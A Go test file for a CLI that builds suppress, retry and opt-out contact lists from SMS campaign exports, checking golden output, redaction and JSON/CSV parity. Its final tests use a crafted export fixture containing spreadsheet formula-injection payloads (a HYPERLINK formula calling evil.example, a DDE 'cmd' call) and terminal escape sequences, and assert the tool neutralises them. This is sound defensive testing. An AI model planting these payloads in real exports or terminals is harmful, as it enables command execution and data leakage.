package cli

import (
	"encoding/csv"
	"encoding/json"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// TestContactsGolden pins every list of contacts as CSV, and the JSON form,
// for the StateVoices and Rewired fixtures.
func TestContactsGolden(t *testing.T) {
	t.Parallel()
	for _, fixture := range []string{"statevoices-v10", "rewired"} {
		for _, list := range []string{"suppress", "retry", "opted-out", "all"} {
			name := "contacts." + fixture + "." + list + ".csv"
			t.Run(name, func(t *testing.T) {
				r := run(t, nil, "contacts", "--list", list, repoFile("dialects", fixture+".csv"))
				if r.code != ExitOK || r.stderr != "" {
					t.Fatalf("exit %d, stderr:\n%s", r.code, r.stderr)
				}
				checkGolden(t, name, r.stdout)
			})
		}
		name := "contacts." + fixture + ".all.json"
		t.Run(name, func(t *testing.T) {
			r := run(t, nil, "contacts", "--format", "json", repoFile("dialects", fixture+".csv"))
			if r.code != ExitOK {
				t.Fatalf("exit %d, stderr:\n%s", r.code, r.stderr)
			}
			checkGolden(t, name, r.stdout)
		})
	}
}

// contactsCSV runs contacts and returns its CSV as records keyed by column.
func contactsCSV(t *testing.T, args ...string) []map[string]string {
	t.Helper()
	r := run(t, nil, append([]string{"contacts"}, args...)...)
	if r.code != ExitOK {
		t.Fatalf("exit %d, stderr:\n%s", r.code, r.stderr)
	}
	return parseCSV(t, r.stdout)
}

func parseCSV(t *testing.T, data string) []map[string]string {
	t.Helper()
	records, err := csv.NewReader(strings.NewReader(data)).ReadAll()
	if err != nil || len(records) == 0 {
		t.Fatalf("invalid CSV (%v):\n%s", err, data)
	}
	var out []map[string]string
	for _, rec := range records[1:] {
		m := map[string]string{}
		for i, h := range records[0] {
			m[h] = rec[i]
		}
		out = append(out, m)
	}
	return out
}

func column(rows []map[string]string, name string) []string {
	var out []string
	for _, r := range rows {
		out = append(out, r[name])
	}
	return out
}

// TestContactsListsByHand checks each list of the StateVoices fixture
// against reasons worked out by hand from its rows.
func TestContactsListsByHand(t *testing.T) {
	t.Parallel()
	path := repoFile("dialects", "statevoices-v10.csv")
	cases := []struct {
		list    string
		cells   []string // last 4 digits
		reasons []string
	}{
		// 0123 replied STOP (-133); 0127 rejected 21610; 0128 30006 landline;
		// 0133 replied "stop."
		{"suppress", []string{"0123", "0127", "0128", "0133"},
			[]string{"opt_out_reply", "opt_out_rejection", "number_error", "opt_out_reply"}},
		// 0129: SENT at 14:00, more than 2h before the newest row (18:46);
		// 0131: Spoke's -5, a send Spoke retries (not the number's fault).
		{"retry", []string{"0129", "0131"}, []string{"stuck_sent", "retryable_error"}},
		{"opted-out", []string{"0123", "0127", "0133"}, []string{"opt_out_reply", "opt_out_rejection", "opt_out_reply"}},
	}
	for _, tc := range cases {
		t.Run(tc.list, func(t *testing.T) {
			rows := contactsCSV(t, "--list", tc.list, path)
			var cells []string
			for _, c := range column(rows, "cell") {
				cells = append(cells, c[len(c)-4:])
			}
			if !slices.Equal(cells, tc.cells) || !slices.Equal(column(rows, "reason"), tc.reasons) {
				t.Errorf("cells %v reasons %v, want %v %v", cells, column(rows, "reason"), tc.cells, tc.reasons)
			}
		})
	}
	all := contactsCSV(t, path)
	if len(all) != 13 {
		t.Errorf("all has %d contacts, want 13 distinct numbers", len(all))
	}
	// The rejection is also when the contact opted out; the reply's text is kept.
	byCell := map[string]map[string]string{}
	for _, r := range all {
		byCell[r["cell"]] = r
	}
	if r := byCell["+15555550127"]; r["opted_out_at"] != "2024-10-01T18:02:17.100Z" || r["code"] != "21610" {
		t.Errorf("0127 = %v", r)
	}
	if r := byCell["+15555550133"]; r["opt_out_reply"] != "stop." || r["replied"] != "true" || r["delivered"] != "1" {
		t.Errorf("0133 = %v", r)
	}
}

// TestContactsAsOf checks that --as-of and --stuck-after decide the retry
// list's stuck contacts.
func TestContactsAsOf(t *testing.T) {
	t.Parallel()
	path := repoFile("dialects", "statevoices-v10.csv")
	// Two hours after the newest row, the SENT at 18:19:59.999 is stuck too.
	rows := contactsCSV(t, "--list", "retry", "--as-of", "2024-10-01T20:46:00Z", path)
	// 0131 (Spoke's -5) is on the retry list whatever the as-of.
	if got := column(rows, "cell"); !slices.Equal(got, []string{"+15555550129", "+15555550130", "+15555550131"}) {
		t.Errorf("retry with --as-of = %v", got)
	}
	rows = contactsCSV(t, "--list", "retry", "--stuck-after", "5h", path)
	if got := column(rows, "cell"); !slices.Equal(got, []string{"+15555550131"}) {
		t.Errorf("retry with --stuck-after 5h = %v, want only the -5 contact", got)
	}
}

// TestContactsRedact masks every contact number.
func TestContactsRedact(t *testing.T) {
	t.Parallel()
	rows := contactsCSV(t, "--redact", repoFile("dialects", "rewired.csv"))
	for _, c := range column(rows, "cell") {
		if strings.Contains(c, "555555") || !strings.Contains(c, "•••") {
			t.Errorf("cell %q is not masked", c)
		}
	}
	r := run(t, nil, "contacts", "--redact", "--format", "json", repoFile("dialects", "rewired.csv"))
	if strings.Contains(r.stdout, "+15555550") || !strings.Contains(r.stdout, `"cell": "+1555•••0123"`) && !strings.Contains(r.stdout, `"cell":"+1555•••0123"`) {
		t.Errorf("JSON not redacted:\n%s", r.stdout)
	}
}

// TestContactsJSONMatchesCSV checks that --format json is the same list.
func TestContactsJSONMatchesCSV(t *testing.T) {
	t.Parallel()
	path := repoFile("example-messages.csv")
	for _, list := range []string{"suppress", "retry", "opted-out", "all"} {
		rows := contactsCSV(t, "--list", list, path)
		r := run(t, nil, "contacts", "--list", list, "--format", "json", path)
		var got []map[string]any
		if err := json.Unmarshal([]byte(r.stdout), &got); err != nil {
			t.Fatalf("%s: invalid JSON: %v", list, err)
		}
		if len(got) != len(rows) {
			t.Fatalf("%s: %d JSON contacts, %d CSV", list, len(got), len(rows))
		}
		for i := range got {
			if got[i]["cell"] != rows[i]["cell"] || got[i]["reason"] != rows[i]["reason"] || got[i]["code"] != rows[i]["code"] {
				t.Errorf("%s #%d: JSON %v, CSV %v", list, i, got[i], rows[i])
			}
		}
		if len(got) > 0 && !slices.Equal(slices.Sorted(maps.Keys(got[0])), slices.Sorted(maps.Keys(rows[0]))) {
			t.Errorf("%s: JSON fields %v, CSV columns %v", list, slices.Sorted(maps.Keys(got[0])), slices.Sorted(maps.Keys(rows[0])))
		}
	}
}

// craftedExport is a Rewired export whose cells try formula injection and
// terminal escape sequences.
const craftedExport = `assignmentId,userNumber,contactNumber,isFromContact,numSegments,numMedia,sendStatus,errorCodes,attemptedAt,text,campaignId,texter[firstName],texter[lastName],texter[email],texter[cell]
1,+15555550100,"=HYPERLINK(""http://evil.example/""&A1)",false,1,0,ERROR,30003,2022-10-04T18:00:00.000Z,"=cmd|'/c calc'!A1",=1+2,@SUM(A1),"-2+3",+1 555 555 0199,"+cmd"
1,+15555550100,+15555550124,true,1,0,DELIVERED,-133,2022-10-04T18:01:00.000Z,"` + "\x1b]0;pwned\x07STOP\x1b[2J" + `",77,"` + "\x1b[31mRed" + `",,,
1,+15555550100,+15555550124,false,1,0,ERROR,=2+5,2022-10-04T18:02:00.000Z,"` + "line one\rOVERWRITE\u009b31m" + `",77,Sam,Rivera,,
`

func writeCrafted(t *testing.T) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "crafted.csv")
	if err := os.WriteFile(path, []byte(craftedExport), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

// assertSafe fails when out holds a terminal control sequence, or a CSV
// cell that a spreadsheet would run as a formula.
func assertSafe(t *testing.T, out string, cells []map[string]string) {
	t.Helper()
	// The last two are JSON's escapes of ESC and BEL: the sequences must be
	// gone, not merely escaped.
	for _, bad := range []string{"\x1b", "\x07", "\u009b", `\u001b`, `\u0007`} {
		if strings.Contains(out, bad) {
			t.Errorf("output holds %q:\n%q", bad, out)
		}
	}
	if strings.Contains(strings.ReplaceAll(out, "\r\n", "\n"), "\r") {
		t.Errorf("output holds a bare carriage return:\n%q", out)
	}
	for _, row := range cells {
		for col, v := range row {
			if v == "" || !strings.ContainsRune("=+-@\t\r", rune(v[0])) {
				continue
			}
			if !isNumberOrPhone(v) {
				t.Errorf("column %s: cell %q would run as a formula", col, v)
			}
		}
	}
}

func isNumberOrPhone(v string) bool {
	return strings.Trim(v, "+-0123456789. ()") == ""
}

// TestCraftedExportContacts runs a crafted export through contacts.
func TestCraftedExportContacts(t *testing.T) {
	t.Parallel()
	path := writeCrafted(t)
	r := run(t, nil, "contacts", path)
	if r.code != ExitOK {
		t.Fatalf("exit %d, stderr:\n%s", r.code, r.stderr)
	}
	rows := parseCSV(t, r.stdout)
	assertSafe(t, r.stdout, rows)
	want := map[string]string{ // cell -> campaign
		`'=HYPERLINK("http://evil.example/"&A1)`: "'=1+2",
		"+15555550124":                           "77",
	}
	for _, row := range rows {
		if want[row["cell"]] != row["campaign"] {
			t.Errorf("cell %q campaign %q; want one of %v", row["cell"], row["campaign"], want)
		}
		if row["cell"] == "+15555550124" && (row["opt_out_reply"] != "\uFFFDSTOP\uFFFD" || row["code"] != "-133") {
			t.Errorf("opt-out reply %q code %q, want the escape sequences replaced and -133 kept", row["opt_out_reply"], row["code"])
		}
	}
	r = run(t, nil, "contacts", "--format", "json", path)
	assertSafe(t, r.stdout, nil)
}
